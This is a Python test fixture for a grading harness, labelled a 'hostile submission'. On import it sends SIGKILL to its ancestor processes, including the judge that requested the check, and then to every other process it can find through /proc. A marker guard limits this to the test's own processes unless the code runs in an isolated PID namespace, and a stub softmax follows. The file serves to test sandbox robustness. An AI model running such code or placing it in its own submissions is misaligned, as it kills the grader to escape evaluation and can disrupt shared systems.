"""Hostile submission: kill the judge and the program that asked for the check.

SIGKILL every ancestor (os.getppid chain), then every other process it can see. Unless it finds
itself in a PID namespace of its own, the marker guard keeps the attack on the processes of the
test that runs it (the machine is shared); a real attacker would kill everything of its user.
"""

import contextlib
import os
import signal

MARKER = "__MARKER__"
HOST_PID_NAMESPACE = "__HOST_PIDNS__"


def _confined() -> bool:
    """In a PID namespace of its own, with a /proc of that namespace (where /proc/self names this
    process by its pid in the namespace), every process it sees is the submission's: no guard."""
    try:
        own = os.readlink("/proc/self/ns/pid")
        return own != HOST_PID_NAMESPACE and os.readlink("/proc/self") == str(os.getpid())
    except OSError:
        return False  # cannot tell: stay on the guarded side


CONFINED = _confined()


def _ours(pid: int) -> bool:
    if CONFINED:
        return True
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return MARKER.encode() in f.read()
    except OSError:
        return False


def _parent_of(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


ancestors = []
pid = os.getppid()
while pid > 1 and _ours(pid):
    ancestors.append(pid)
    pid = _parent_of(pid)
others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid() and int(p) not in ancestors]
victims = list(reversed(ancestors)) + [p for p in others if _ours(p)]  # the asker first: it must not answer
for victim in victims:
    with contextlib.suppress(OSError):
        os.kill(victim, signal.SIGKILL)
print(f"killed {victims}")


def softmax(x, dim=-1):
    return x.clone()
